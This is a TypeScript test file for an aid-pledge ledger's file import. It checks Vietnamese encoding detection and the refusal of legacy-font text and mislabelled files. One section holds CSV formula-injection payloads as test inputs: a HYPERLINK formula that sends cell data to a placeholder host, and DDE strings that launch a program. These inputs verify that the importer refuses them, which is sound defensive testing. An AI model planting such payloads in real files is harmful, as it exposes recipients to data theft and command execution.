/**
 * Files read by what they hold, not by their name: CSV in every encoding Vietnamese offices save it in (each made here,
 * byte by byte), text typed with the old TCVN3 and VNI fonts refused naming them, and web pages, documents and images
 * named as spreadsheets refused naming what they are. A refused file changes nothing.
 */
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import type { ImportedFile } from '../contract';
import { TEMPLATE_COLUMNS } from '../db/imports/columns';
import { isTextFormula } from '../db/imports/text-formulas';
import { writeZip } from './fuzz-helpers';
import { tempLedger, type TestLedger } from './helpers';
import { propertyParams } from './random';
import { ALL_LETTERS, tcvn3, vni, windows1258 } from './vietnamese-encodings';

let t: TestLedger;
beforeEach(async () => {
  t = await tempLedger();
  await t.service.invoke('donors.create', {
    name: 'Tổ chức Tzu Chi',
    country: 'Đài Loan (Trung Quốc)',
    kind: 'foreign_ngo',
  });
});
afterEach(() => t.close());

const HEADERS = TEMPLATE_COLUMNS.map((c) => c.header).slice(0, 15);

/** Rows in Vietnamese of every kind: capitals, đ and Đ, every tone; the notes of the first hold every letter. */
const ROWS: string[][] = [
  [
    '05/09/2022',
    'Quỹ Hỗ trợ Phát triển Cộng đồng',
    'Ấn Độ',
    'Bảo Lạc',
    'Nhà ở',
    'Hỗ trợ xây nhà tình nghĩa cho hộ nghèo',
    '20',
    'căn',
    '44.000.000',
    '880.000.000',
    'VND',
    '',
    '80',
    'Cam kết',
    ALL_LETTERS.join(' '),
  ],
  [
    '06/09/2022',
    'Tổ chức Đông Tây Hội ngộ',
    'Hoa Kỳ',
    'BẢO LẠC',
    'Quà',
    'Quà Tết Nguyên đán cho người già neo đơn',
    '1.000',
    'suất',
    '500.000',
    '',
    'VND',
    '',
    '',
    'Đang thực hiện',
    'Đợt 1, ưu tiên xã Hưng Đạo',
  ],
  [
    '07/09/2022',
    'ỦY BAN CỨU TRỢ ĐỒNG BÀO',
    'Úc',
    'Bảo Lạc',
    'Học bổng',
    'HỌC BỔNG CHO HỌC SINH DÂN TỘC THIỂU SỐ',
    '',
    '',
    '',
    '120.000.000',
    'VND',
    '',
    '40',
    'Hoàn thành',
    'Ổn định, ấm áp, ủng hộ, ỷ lại, ẩm ướt',
  ],
  [
    '08/09/2022',
    'Hội Chữ thập đỏ Đức',
    'Đức',
    'Bảo Lạc',
    'Trang thiết bị',
    'Trạm y tế xã: ống nghe, nhiệt kế, máy đo huyết áp',
    '3',
    'bộ',
    '',
    '90.000.000',
    'VND',
    '',
    '',
    'Hủy',
    'Giếng khoan, bể chứa nước sạch',
  ],
  [
    '09/09/2022',
    'Tổ chức Tzu Chi',
    '',
    'Bảo Lạc',
    'Dự án',
    'XÂY DỰNG ĐƯỜNG GIAO THÔNG NÔNG THÔN',
    '',
    '',
    '',
    '1.500.000.000',
    'VND',
    '',
    '',
    '',
    'Đường bê tông dài 2 km, rộng 3,5 m',
  ],
  [
    '10/09/2022',
    'Tổ chức Tzu Chi',
    '',
    'Bảo Lạc',
    'Tiền mặt',
    'Cứu trợ khẩn cấp sau bão lũ',
    '',
    '',
    '',
    '200.000.000',
    'VND',
    '',
    '',
    '',
    'Sữa cho trẻ em suy dinh dưỡng; kỹ năng sống',
  ],
];

const cell = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text);
const csvOf = (rows: string[][]) => `${rows.map((r) => r.map(cell).join(',')).join('\r\n')}\r\n`;
const CSV = csvOf([HEADERS, ...ROWS]);

const utf16be = (text: string) => Buffer.from(text, 'utf16le').swap16();
const ENCODINGS: [string, Buffer][] = [
  ['UTF-8', Buffer.from(CSV, 'utf8')],
  ['UTF-8 with its byte order mark', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(CSV, 'utf8')])],
  ['UTF-8 with decomposed letters (NFD)', Buffer.from(CSV.normalize('NFD'), 'utf8')],
  ['UTF-16 LE with its mark', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(CSV, 'utf16le')])],
  ['UTF-16 BE with its mark', Buffer.concat([Buffer.from([0xfe, 0xff]), utf16be(CSV)])],
  ['UTF-16 LE without a mark', Buffer.from(CSV, 'utf16le')],
  ['Windows-1258, a toned letter as the code page has it', windows1258(CSV, 'where-needed')],
  ['Windows-1258, every tone a separate mark', windows1258(CSV, 'always')],
];

async function importBytes(fileName: string, bytes: Buffer): Promise<ImportedFile> {
  const answer = await t.service.invoke('imports.files', {
    files: [{ fileName, base64: bytes.toString('base64') }],
    dryRun: false,
  });
  return answer.files[0]!;
}

const count = (table: string) =>
  (t.ledger.sqlite.prepare(`SELECT count(*) AS n FROM ${table}`).get() as { n: number }).n;

/** The file refused with one problem of the whole file, its message containing `words`; nothing written. */
async function expectRefused(fileName: string, bytes: Buffer, words: string): Promise<ImportedFile> {
  const result = await importBytes(fileName, bytes);
  expect(result.added, fileName).toBe(0);
  expect(result.errors, fileName).toEqual([
    { row: 0, column: '', message: expect.stringContaining(words), messageEn: expect.any(String) },
  ]);
  expect(count('pledges')).toBe(0);
  expect(count('donors')).toBe(1);
  return result;
}

describe('a CSV file', () => {
  it.each(ENCODINGS)('in %s: its header is found and every Vietnamese letter is kept', async (_, bytes) => {
    const result = await importBytes('danh-sach.csv', bytes);
    expect(result.errors).toEqual([]);
    expect(result.added).toBe(ROWS.length);
    const donors = t.ledger.sqlite.prepare('SELECT name, country FROM donors ORDER BY name').all();
    expect(donors).toEqual(
      [...new Map(ROWS.map((r) => [r[1]!, r[2] || 'Đài Loan (Trung Quốc)'])).entries()]
        .map(([name, country]) => ({ name, country }))
        .sort((a, b) => (a.name < b.name ? -1 : 1)),
    );
    const pledges = t.ledger.sqlite
      .prepare('SELECT description, notes, unit, status FROM pledges ORDER BY pledge_date')
      .all() as { description: string; notes: string | null }[];
    expect(pledges.map((p) => [p.description, p.notes])).toEqual(ROWS.map((r) => [r[5], r[14]]));
    expect(pledges[0]!.notes!.split(' ')).toHaveLength(146);
  });

  it('with donors of other languages among Vietnamese rows is read as it is, in UTF-8 and in Windows-1258', async () => {
    const names: [string, string][] = [
      ['Caritas Österreich', 'Áo'],
      ['Brot für die Welt', 'Đức'],
      ['Ærø Venskabsforening', 'Đan Mạch'],
      ['Fundación Vicente Ferrer', 'Tây Ban Nha'],
      ['Misereor Aachen', 'Đức'],
    ];
    const rows = names.map(([name, country], i) =>
      ROWS[i % 2]!.map((v, c) => (c === 1 ? name : c === 2 ? country : v)),
    );
    const text = csvOf([HEADERS, ...rows]);
    expect((await importBytes('chau-au.csv', Buffer.from(text, 'utf8'))).added).toBe(names.length);
    const chinese = csvOf([HEADERS, ROWS[0]!.map((v, c) => (c === 1 ? '慈濟基金會' : c === 2 ? 'Đài Loan' : v))]);
    expect((await importBytes('trung-quoc.csv', Buffer.from(chinese, 'utf8'))).added).toBe(1);
    const again = rows.map((r) => r.map((v, c) => (c === 5 ? `${v} (đợt 2)` : v)));
    const cp1258 = windows1258(csvOf([HEADERS, ...again]), 'where-needed');
    expect((await importBytes('chau-au-1258.csv', cp1258)).added).toBe(names.length);
    const stored = t.ledger.sqlite.prepare('SELECT name FROM donors').all() as { name: string }[];
    expect(stored.map((d) => d.name)).toEqual(expect.arrayContaining([...names.map(([n]) => n), '慈濟基金會']));
  });

  // TCVN3 has no capitals with tones (a capital font drew them): the rows are written without any.
  const plain = csvOf([HEADERS, ...ROWS.map((r) => r.map((v, c) => (c === 14 ? 'Ghi chú' : v.toLowerCase())))]);

  it('typed with a TCVN3 (ABC, .VnTime) font is refused naming TCVN3, as saved as CSV and as CSV UTF-8', async () => {
    const bytes = tcvn3(plain);
    expect(bytes.toString('latin1')).toContain('Ngµy cam kÕt');
    const result = await expectRefused('abc.csv', bytes, 'TCVN3');
    expect(result.errors[0]!.messageEn).toContain('TCVN3');
    await expectRefused('abc-utf8.csv', Buffer.from(bytes.toString('latin1'), 'utf8'), 'TCVN3');
  });

  it('typed with a VNI font is refused naming VNI', async () => {
    const bytes = vni(csvOf([HEADERS, ...ROWS.map((r) => r.map((v, c) => (c === 14 ? 'Ghi chú' : v)))]));
    expect(bytes.toString('latin1')).toContain('Ngaøy cam keát');
    await expectRefused('vni.csv', bytes, 'VNI');
    await expectRefused('vni-utf8.csv', Buffer.from(bytes.toString('latin1'), 'utf8'), 'VNI');
  });

  it('saved twice as UTF-8 (its letters read as Western ones in between) is refused: its encoding is not known', async () => {
    const twice = Buffer.from(Buffer.from(CSV, 'utf8').toString('latin1'), 'utf8');
    await expectRefused('hai-lan.csv', twice, 'bảng mã');
  });
});

describe('random Vietnamese text in a random encoding', () => {
  const letters = [...ALL_LETTERS.slice(0, 73), ...'abcdeghiklmnopqrstuvxy'];
  const word = fc
    .tuple(
      fc.array(fc.constantFrom(...letters), { minLength: 1, maxLength: 9 }),
      fc.constantFrom('lower', 'title', 'upper'),
    )
    .map(([chars, style]) => {
      const lower = chars.join('');
      return style === 'upper'
        ? lower.toUpperCase()
        : style === 'title'
          ? lower[0]!.toUpperCase() + lower.slice(1)
          : lower;
    });
  const description = fc.array(word, { minLength: 1, maxLength: 8 }).map((words) => words.join(' '));
  const encoders: [string, (text: string) => Buffer][] = [
    ['UTF-8', (text) => Buffer.from(text, 'utf8')],
    ['UTF-16 LE', (text) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])],
    ['UTF-16 BE', (text) => Buffer.concat([Buffer.from([0xfe, 0xff]), utf16be(text)])],
    ['Windows-1258', (text) => windows1258(text, 'where-needed')],
    ['Windows-1258, marks', (text) => windows1258(text, 'always')],
  ];

  it('is read back as typed (seeded)', async () => {
    let amount = 1_000;
    await fc.assert(
      fc.asyncProperty(
        fc.array(description, { minLength: 1, maxLength: 5 }),
        fc.constantFrom(...encoders),
        async (descriptions, [, encode]) => {
          // Amounts never used before: no row is known from an earlier run.
          const rows = descriptions.map((d) => ROWS[4]!.map((v, c) => (c === 5 ? d : c === 9 ? String(++amount) : v)));
          const before = count('pledges');
          const result = await importBytes('ngau-nhien.csv', encode(csvOf([HEADERS, ...rows])));
          expect(result.errors).toEqual([]);
          expect(result.added).toBe(rows.length);
          const read = t.ledger.sqlite
            .prepare('SELECT description FROM pledges ORDER BY rowid LIMIT -1 OFFSET ?')
            .all(before) as { description: string }[];
          expect(read.map((r) => r.description)).toEqual(descriptions);
        },
      ),
      propertyParams(25),
    );
  });
});

describe('a workbook whose cells are typed with an old font', () => {
  it('is refused naming the font', async () => {
    const rows = [HEADERS, ...ROWS.map((r) => r.map((v, c) => (c === 14 ? '' : v.toLowerCase())))];
    const book = XLSX.utils.book_new();
    const typed = rows.map((r) => r.map((v) => tcvn3(v).toString('latin1')));
    XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet(typed), 'Nhập liệu');
    await expectRefused('vntime.xlsx', XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer, 'TCVN3');
  });
});

describe('a file that is not a spreadsheet, named as one', () => {
  const table = `<table><tr>${HEADERS.map((h) => `<td>${h}</td>`).join('')}</tr><tr>${ROWS[4]!.map((v) => `<td>${v}</td>`).join('')}</tr></table>`;
  const page = `<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Báo cáo</title></head><body>${table}</body></html>`;

  it('a web page (HTML) is refused, though its table has the template header', async () => {
    for (const name of ['bao-cao.xls', 'bao-cao.xlsx', 'bao-cao.csv'])
      await expectRefused(name, Buffer.from(page, 'utf8'), 'trang web (HTML)');
    const excelWebPage = `<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel"><body>${table}</body></html>`;
    await expectRefused('excel-web.xls', Buffer.from(excelWebPage, 'utf8'), 'trang web (HTML)');
    await expectRefused('bang.xls', Buffer.from(`\ufeff\r\n  ${table}`, 'utf8'), 'trang web (HTML)');
    await expectRefused('bang-utf16.xls', Buffer.from(`\ufeff${page}`, 'utf16le'), 'trang web (HTML)');
    const mht = `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="----=_NextPart_01"\r\n\r\n------=_NextPart_01\r\nContent-Type: text/html; charset="utf-8"\r\n\r\n${page}`;
    await expectRefused('trang.xls', Buffer.from(mht, 'utf8'), 'trang web (HTML)');
  });

  it('a PDF, an image, a Word document, a presentation, an archive, an XML file or binary data is refused naming it', async () => {
    const cfb = (stream: string) => {
      const file = XLSX.CFB.utils.cfb_new();
      XLSX.CFB.utils.cfb_add(file, `/${stream}`, Buffer.from('Kính gửi Sở Ngoại vụ'));
      return XLSX.CFB.write(file, { type: 'buffer' }) as Buffer;
    };
    const zipOf = (...names: string[]) =>
      writeZip(names.map((name) => ({ name, method: 8, data: Buffer.from('<x/>') })));
    const cases: [string, Buffer, string][] = [
      ['bao-cao.xlsx', Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'), 'tài liệu PDF'],
      ['anh.xls', Buffer.from('89504e470d0a1a0a0000000d4948445200000001', 'hex'), 'hình ảnh'],
      ['anh.csv', Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), 'hình ảnh'],
      ['cong-van.xls', cfb('WordDocument'), 'văn bản Word (.doc)'],
      ['cong-van.xlsx', zipOf('[Content_Types].xml', 'word/document.xml'), 'văn bản Word (.docx)'],
      ['trinh-chieu.xlsx', zipOf('[Content_Types].xml', 'ppt/presentation.xml'), 'bài trình chiếu'],
      ['mat-khau.xlsx', cfb('EncryptedPackage'), 'mật khẩu'],
      ['van-ban.csv', Buffer.from('{\\rtf1\\ansi Kính gửi}'), 'văn bản RTF'],
      ['nen.xls', Buffer.from('1f8b0800000000000003', 'hex'), 'tệp nén'],
      ['du-lieu.xls', Buffer.from('<?xml version="1.0"?>\n<data><row>1</row></data>'), 'tệp XML'],
      ['chuong-trinh.csv', Buffer.from('4d5a90000300000004000000ffff0000b800000000000000', 'hex'), 'nhị phân'],
    ];
    for (const [name, bytes, words] of cases) await expectRefused(name, bytes, words);
  });

  it('a letter in plain text is refused: it has no header row', async () => {
    const letter = 'Kính gửi: Sở Ngoại vụ tỉnh Cao Bằng\r\nVề việc: báo cáo viện trợ quý III năm 2022\r\nTrân trọng.';
    for (const name of ['thu.xlsx', 'thu.csv']) await expectRefused(name, Buffer.from(letter, 'utf8'), 'tiêu đề');
  });

  it('but text saved as .xls and an Excel 2003 XML workbook are read as the sheets they are', async () => {
    const tsv = [HEADERS, ROWS[4]!].map((r) => r.join('\t')).join('\r\n');
    expect(await importBytes('xuat-tu-phan-mem.xls', Buffer.from(tsv, 'utf16le'))).toMatchObject({ added: 1 });
    const book = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet([HEADERS, ROWS[5]!]), 'Nhập liệu');
    const xml = XLSX.write(book, { type: 'buffer', bookType: 'xlml' }) as Buffer;
    expect(await importBytes('excel-2003.xls', xml)).toMatchObject({ added: 1, errors: [] });
  });
});

describe('a CSV cell that a spreadsheet would compute', () => {
  const FORMULA = 'ô chứa công thức; hãy dán giá trị (Paste Values)';

  it('is refused as a formula in a workbook is, naming its row and column', async () => {
    const row = (changes: Record<number, string>) => ROWS[4]!.map((v, c) => changes[c] ?? v);
    const rows = [
      row({ 1: '=HYPERLINK("http://vi-du.invalid/?d="&A2,"Bấm vào đây")' }),
      row({ 5: "+cmd|' /C calc'!A0" }),
      row({ 14: "@SUM(1+1)*cmd|' /C calc'!A0" }),
      row({ 9: "-2+3+cmd|' /C calc'!A0" }),
      row({ 5: '  =1+1' }),
      row({ 14: '-Sheet1!A1' }),
      row({ 14: '+A1*2' }),
    ];
    const result = await importBytes('cong-thuc.csv', Buffer.from(csvOf([HEADERS, ...rows]), 'utf8'));
    expect(result.added).toBe(0);
    expect(result.errors.map((e) => [e.row, e.column, e.message])).toEqual([
      [2, 'Nhà tài trợ', FORMULA],
      [3, 'Nội dung', FORMULA],
      [4, 'Ghi chú', FORMULA],
      [5, 'Thành tiền', FORMULA],
      [6, 'Nội dung', FORMULA],
      [7, 'Ghi chú', FORMULA],
      [8, 'Ghi chú', FORMULA],
    ]);
    expect(count('pledges')).toBe(0);
  });

  it('but numbers, phone numbers and text after a dash are read as before', async () => {
    const row = (changes: Record<number, string>) => ROWS[5]!.map((v, c) => changes[c] ?? v);
    const rows = [
      row({ 5: '- Nhà tình nghĩa', 14: 'Liên hệ +84 912 345 678' }),
      row({ 5: '-Hỗ trợ (đợt 2)', 14: '+84 (0) 912-345-678' }),
      row({ 5: '- Nha tinh nghia (dot 3)', 14: '@ Hội trường xã' }),
      row({ 5: '+ Quà Tết', 14: '- A4 giấy, 5 ram' }),
    ];
    const result = await importBytes('khong-cong-thuc.csv', Buffer.from(csvOf([HEADERS, ...rows]), 'utf8'));
    expect(result.errors).toEqual([]);
    const stored = t.ledger.sqlite.prepare('SELECT description, notes FROM pledges ORDER BY rowid').all();
    expect(stored).toEqual(rows.map((r) => ({ description: r[5], notes: r[14] })));
    // A negative amount is refused as it always was: not as a formula.
    const negative = await importBytes('am.csv', Buffer.from(csvOf([HEADERS, row({ 9: '-5' })]), 'utf8'));
    expect(negative.errors).toEqual([
      expect.objectContaining({ row: 2, column: 'Thành tiền', message: expect.stringContaining('không phải số') }),
    ]);
  });

  it.each([
    ['=A1', true],
    ['=', false],
    ['+HYPERLINK("x")', true],
    ['-cmd|x', true],
    ["@'x y'!A0", true],
    ['+$B$2', true],
    ['-5', false],
    ['-1.234,56', false],
    ['+84912345678', false],
    ['+84 912 345 678', false],
    ['- Nhà tình nghĩa', false],
    ['-Hỗ trợ', false],
    ['@gmail.com', false],
    ['- 5 hộ gia đình', false],
    ['Tổ chức =HYPERLINK', false],
  ])('%s is a formula: %s', (text, formula) => {
    expect(isTextFormula(text)).toBe(formula);
  });
});
